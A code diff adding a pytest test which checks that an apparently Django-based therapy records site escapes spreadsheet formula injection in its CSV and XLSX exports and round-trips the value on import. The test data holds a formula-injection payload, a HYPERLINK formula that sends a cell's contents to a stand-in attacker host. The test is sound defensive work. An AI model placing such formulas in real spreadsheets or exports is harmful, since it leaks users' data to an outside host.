@@ -430,3 +430,32 @@ def test_a_long_file_name_is_shortened_in_the_history(editor_client):
     reason = version.history_change_reason
     assert reason.startswith("Imported from biosimilars-xxx") and reason.endswith("…")
     assert len(reason) == 100
+
+
+@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
+def test_an_export_never_writes_a_live_formula_and_imports_back_unchanged(
+    editor_client, file_format
+):
+    """Hostile text in a record (a summary starting with "=") is written as text: with the
+    leading quote the site's other CSV exports use, and read back without it."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Therapy.objects.filter(slug="rituximab").update(summary=hostile)
+    response = export(editor_client, Therapy, "?q=rituximab", file_format)
+    if file_format == CSV_FORMAT:
+        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+        cells = [row["summary"] for row in rows]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        column = [cell.value for cell in next(sheet.iter_rows())].index("summary")
+        cells = [row[column].value for row in list(sheet.iter_rows())[1:]]
+        assert all(row[column].data_type == "s" for row in list(sheet.iter_rows())[1:])
+    assert cells == [f"'{hostile}"]
+    history = Therapy.history.count()
+    name = "back.csv" if file_format == CSV_FORMAT else "back.xlsx"
+    response = preview(
+        editor_client, Therapy, SimpleUploadedFile(name, response.content), file_format
+    )
+    assert "0 new, 0 changed," in page_text(response), problems(response)
+    confirm(editor_client, Therapy, response)
+    assert Therapy.objects.get(slug="rituximab").summary == hostile
+    assert Therapy.history.count() == history
